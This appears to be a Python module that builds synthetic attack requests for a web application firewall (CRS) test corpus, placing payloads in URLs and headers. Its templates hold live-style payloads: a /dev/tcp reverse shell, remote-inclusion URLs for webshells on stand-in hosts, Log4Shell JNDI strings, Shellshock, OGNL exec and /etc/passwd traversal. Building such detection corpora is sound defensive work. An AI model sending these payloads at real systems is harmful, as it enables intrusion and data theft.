"""Attack requests for the CRS corpora (crs_corpus.py): a payload drawn from one of Debian's lists
(crs_corpus_payloads.py), turned into what an attacker would send, and placed where attackers put
it - a query parameter's value (encoded as a browser or curl would, raw, with '+' for spaces, or
double-encoded), a parameter's name, the path, the User-Agent or the Referer.

attack_sources(split) -> [source]; attack_request(rng, sources) -> (family, source, method, target,
referer, agent).
"""

import re

from crs_corpus_payloads import crs_data, render_sqlmap, sqlmap_boundaries, sqlmap_tests, wfuzz_lists
from crs_corpus_text import VALUE_ENCODINGS, in_split, pct, pct_raw, query
from crs_corpus_vocab import BROWSERS, WORDS

# Parameter names and paths each family's payloads are typically sent to.
PARAMS = {
    "sqli": ["id", "user", "cat", "item", "pid", "uid", "order", "sort", "q", "search", "page_id", "product"],
    "xss": ["q", "search", "name", "message", "comment", "redirect", "callback", "title", "error", "s"],
    "lfi": ["file", "page", "path", "template", "include", "doc", "lang", "view", "download", "filename"],
    "rfi": ["page", "include", "file", "url", "path", "mod", "inc", "template"],
    "rce": ["cmd", "exec", "host", "ip", "ping", "query", "arg", "command", "target", "do"],
    "php": ["code", "x", "data", "input", "cmd", "payload", "c", "eval"],
    "java": ["class", "expr", "q", "template", "name", "redirect", "action"],
    "protocol": ["lang", "redirect", "url", "next", "q"],
    "misc": ["q", "id", "name", "search", "filter", "user"],
}
PATHS = ["/index.php", "/search", "/product.php", "/cgi-bin/test.cgi", "/api/v1/items", "/wp-admin/admin-ajax.php",
         "/view.php", "/download.php", "/page", "/user/profile", "/admin/login.php", "/catalog/list", "/", "/news.php",
         "/shop/item", "/forum/viewtopic.php", "/jsp/index.jsp", "/struts/action.do", "/app/render"]
TRAVERSAL_FILES = ["etc/passwd", "etc/shadow", "etc/hosts", "boot.ini", "windows/win.ini", "etc/issue",
                   "proc/self/environ", "windows/system32/drivers/etc/hosts", "var/log/apache2/access.log"]
ATTACK_AGENTS = BROWSERS[:6] + ["curl/7.88.1", "curl/8.4.0", "python-requests/2.31.0", "Go-http-client/1.1",
                                "Mozilla/5.0", "", "Wget/1.21.3", "Mozilla/5.0 (Windows NT 10.0; Win64; x64)"]
# Where each family's payloads go: (slot, weight).
SLOTS = {
    "sqli": [("value", 70), ("name", 5), ("path", 5), ("agent", 10), ("referer", 10)],
    "xss": [("value", 70), ("name", 5), ("path", 10), ("agent", 5), ("referer", 10)],
    "lfi": [("value", 70), ("path", 25), ("referer", 5)],
    "rfi": [("value", 90), ("referer", 10)],
    "rce": [("value", 80), ("agent", 10), ("referer", 5), ("path", 5)],
    "php": [("value", 85), ("name", 5), ("agent", 5), ("referer", 5)],
    "java": [("value", 80), ("agent", 10), ("referer", 10)],
    "protocol": [("value", 100)],
    "misc": [("value", 80), ("agent", 10), ("path", 10)],
}


def _ver(rng):
    return "%d.%d.%d" % (rng.randint(0, 9), rng.randint(0, 20), rng.randint(0, 9))


# --- CRS .data phrases made into the requests that carry them -------------------------------------

def lfi_os_file(rng, entry):
    e = entry.lstrip("/")
    r = rng.random()
    if r < 0.5:
        return "../" * rng.randint(2, 8) + e
    if r < 0.7:
        return "/" + e
    if r < 0.85:
        return "..%2f" * rng.randint(2, 6) + e
    return "....//" * rng.randint(2, 5) + e + rng.choice(["", "%00", "%00.jpg"])


def php_high_risk(rng, fn):
    arg = rng.choice(["'id'", "'cat /etc/passwd'", "$_GET['c']", "base64_decode('aWQ=')", "'uname -a'", "\"whoami\""])
    return rng.choice(["%s(%s)" % (fn, arg), "<?php %s(%s); ?>" % (fn, arg), "%s(%s);exit;" % (fn, arg),
                       "${@%s(%s)}" % (fn, arg)])


def php_function(rng, fn):
    return rng.choice(["%s($_GET['a'])" % fn, "%s(\"%s\")" % (fn, rng.choice(WORDS)), "<?php echo %s(); ?>" % fn,
                       "@%s(1);" % fn])


def php_variable(rng, var):
    return rng.choice(["<?php echo %s['cmd']; ?>" % var, "%s[x]" % var, "{${%s}}" % var, "print_r(%s)" % var])


def php_directive(rng, d):
    return rng.choice(["%s=1" % d, "-d %s=On" % d, "<?php ini_set('%s','1'); ?>" % d, "%s = 0" % d])


def java_class(rng, cls):
    return rng.choice(["${T(%s)}" % cls, "%s.getRuntime().exec('id')" % cls, "new %s()" % cls,
                       "%%{(#a=@%s@getRuntime())}" % cls, "class.classLoader.%s" % cls])


def unix_shell(rng, entry):
    e = "/" + entry.lstrip("/")
    return rng.choice([";%s -c id" % e, "|%s /etc/passwd" % e, "$(%s -la)" % e, "`%s`" % e, "127.0.0.1;%s" % e,
                       "&& %s -i >& /dev/tcp/10.0.0.5/4444 0>&1" % e])


def powershell(rng, cmd):
    return rng.choice(["powershell.exe -nop -c %s" % cmd, "; %s -Path C:\\Windows" % cmd, "|powershell %s" % cmd,
                       "cmd.exe /c powershell -enc %s" % cmd])


def scanner_agent(rng, entry):
    return rng.choice(["%s/%s" % (entry, _ver(rng)), "Mozilla/5.0 (compatible; %s/%s)" % (entry, _ver(rng)), entry,
                       "Mozilla/5.0 (Windows NT 10.0; Win64; x64) %s" % entry])


def crawler_agent(rng, entry):
    return "Mozilla/5.0 (compatible; %s/%s; +http://www.%s.com/bot.html)" % (entry.rstrip("/"), _ver(rng),
                                                                           re.sub(r"\W", "", entry.lower()) or "bot")


# --- payload families without a Debian list of their own, built from fixed templates --------------

def template_payloads():
    rfi = ["http://%s/shell.txt?" % h for h in ("203.0.113.7", "198.51.100.23", "evil.example.net")]
    rfi += ["https://pastebin.example.com/raw/%s?" % t for t in ("x8Kq2", "Zt91a")]
    rfi += ["http://198.51.100.9/r57.txt??", "ftp://203.0.113.50/c99.php", "http://192.0.2.66:8080/inc.php%00",
            "php://input", "data://text/plain;base64,PD9waHAgc3lzdGVtKCRfR0VUWydjJ10pOyA/Pg=="]
    java = ["${jndi:ldap://203.0.113.5:1389/Exploit}", "${jndi:rmi://198.51.100.2/obj}",
            "${${lower:j}ndi:${lower:l}dap://evil.example.net/a}", "${jndi:dns://192.0.2.8/x}",
            "%{(#_memberAccess['allowStaticMethodAccess']=true).(@java.lang.Runtime@getRuntime().exec('id'))}"]
    rce = ["() { :; }; /bin/bash -c 'cat /etc/passwd'", "() { ignored; }; echo; /usr/bin/id",
           "() { :;}; /bin/sleep 5"]
    protocol = ["%0d%0aSet-Cookie:%20session=evil", "%0d%0aLocation:%20http://evil.example.net/",
                "foo%0d%0aContent-Length:%200%0d%0a%0d%0aHTTP/1.1%20200%20OK", "%0aX-Injected:%201",
                "en%0d%0a%0d%0a<script>alert(1)</script>"]
    return [("rfi", rfi), ("java", java), ("rce", rce), ("protocol", protocol)]


def attack_sources(split):
    """[(family, source, weight, [entries], render)] with only this split's entries; render(rng, entry)
    turns an entry into (slot or None, payload) - None lets attack_request pick the slot."""
    plain = lambda rng, e: (None, e)  # noqa: E731
    # wfuzz's dirTraversal.txt writes the target file as {FILE}.
    traversal = lambda rng, e: (None, e.replace("{FILE}", rng.choice(TRAVERSAL_FILES)))  # noqa: E731
    out = []
    wfuzz = wfuzz_lists()
    weights = {"sqli": 10, "xss": 15, "lfi": 8, "rce": 3, "misc": 1, "probe": 3}
    totals = {}
    for fam, _src, ps in wfuzz:
        totals[fam] = totals.get(fam, 0) + len(ps)
    for fam, src, ps in wfuzz:
        if fam == "probe":
            out.append((fam, src, weights[fam], ps, lambda rng, e: ("path", e)))
        else:  # a family's weight is shared among its lists in proportion to their sizes
            out.append((fam, src, weights.get(fam, 1) * len(ps) / totals[fam], ps, traversal if fam == "lfi" else plain))
    tests, bounds = sqlmap_tests(), sqlmap_boundaries()
    by_title = {t[0]: t for t in tests}
    out.append(("sqli", "sqlmap", 15, sorted(by_title),
                lambda rng, title: (None, render_sqlmap(by_title[title], bounds, rng))))
    data = [
        ("lfi", 6, "lfi-os-files.data", lambda rng, e: (None, lfi_os_file(rng, e))),
        ("lfi", 3, "restricted-files.data",
         lambda rng, e: ("path", "/" + e.lstrip("/") + (rng.choice(["config", "HEAD", "entries"]) if e.endswith("/") else ""))),
        ("rce", 5, "unix-shell.data", lambda rng, e: (None, unix_shell(rng, e))),
        ("rce", 3, "windows-powershell-commands.data", lambda rng, e: (None, powershell(rng, e))),
        ("php", 4, "php-function-names-933150.data", lambda rng, e: (None, php_high_risk(rng, e))),
        ("php", 2, "php-function-names-933151.data", lambda rng, e: (None, php_function(rng, e))),
        ("php", 2, "php-variables.data", lambda rng, e: (None, php_variable(rng, e))),
        ("php", 1, "php-config-directives.data", lambda rng, e: (None, php_directive(rng, e))),
        ("java", 4, "java-classes.data", lambda rng, e: (None, java_class(rng, e))),
        ("scanner", 5, "scanners-user-agents.data", lambda rng, e: ("agent", scanner_agent(rng, e))),
        ("scanner", 1, "scripting-user-agents.data", lambda rng, e: ("agent", "%s/%s" % (e.rstrip("/"), _ver(rng)))),
        ("scanner", 1, "crawlers-user-agents.data", lambda rng, e: ("agent", crawler_agent(rng, e))),
        ("scanner", 1, "scanners-urls.data", lambda rng, e: ("path", "/" + e.lstrip("/"))),
    ]
    for fam, weight, name, render in data:
        out.append((fam, "crs-data", weight, crs_data(name), render))
    for fam, ps in template_payloads():
        out.append((fam, "template", {"rfi": 3, "java": 1, "rce": 1, "protocol": 2}[fam], ps, plain))
    return [(f, s, w, [e for e in es if in_split(e, split)], r) for f, s, w, es, r in out
            if any(in_split(e, split) for e in es)]


def _encode_value(rng, payload):
    if re.search(r"%[0-9a-fA-F]{2}", payload) and rng.random() < 0.7:
        return pct_raw(payload)  # pre-encoded fuzzing strings are sent as they are (wfuzz does)
    name = rng.choices(["browser", "form", "raw", "raw_plus", "double"], weights=[35, 20, 25, 10, 10])[0]
    return VALUE_ENCODINGS[name](payload)


def _place(rng, family, slot, payload):
    """(target, referer, agent) with the payload in `slot`."""
    path = rng.choice(PATHS)
    agent = rng.choice(ATTACK_AGENTS)
    referer = ""
    others = [("lang", "en"), ("page", str(rng.randint(1, 9))), ("sid", "%08x" % rng.getrandbits(32))]
    pairs = rng.sample(others, rng.randint(0, 2))
    if slot == "value":
        pairs.insert(rng.randint(0, len(pairs)), (rng.choice(PARAMS.get(family, PARAMS["misc"])), _encode_value(rng, payload)))
        return path + "?" + query(pairs), referer, agent
    if slot == "name":
        enc = pct(payload) if rng.random() < 0.6 else pct_raw(payload, structural="&=#")
        pairs.insert(rng.randint(0, len(pairs)), (enc, "1"))
        return path + "?" + query(pairs), referer, agent
    if slot == "path":
        if not payload.startswith("/"):
            payload = rng.choice(["/", "/static/", "/files/", "/cgi-bin/", "/app/"]) + payload
        enc = pct(payload, safe="/-_.~%") if rng.random() < 0.4 else pct_raw(payload, structural="#?")
        return enc + ("?" + query(pairs) if pairs and rng.random() < 0.3 else ""), referer, agent
    target = path + ("?" + query(pairs) if pairs else "")
    if slot == "agent":
        return target, referer, payload
    # Referer: the payload in a query string on some other site, or the whole header.
    referer = ("https://www.example.com/search?q=" + _encode_value(rng, payload) if rng.random() < 0.6 else payload)
    return target, referer, agent


def attack_request(rng, sources):
    family, source, _w, entries, render = rng.choices(sources, weights=[s[2] for s in sources])[0]
    slot, payload = render(rng, rng.choice(entries))
    if slot is None:
        slots = SLOTS.get(family, SLOTS["misc"])
        slot = rng.choices([s for s, _ in slots], weights=[w for _, w in slots])[0]
    target, referer, agent = _place(rng, family, slot, payload)
    method = "HEAD" if rng.random() < 0.02 else "GET"
    return family, source, method, target, referer, agent

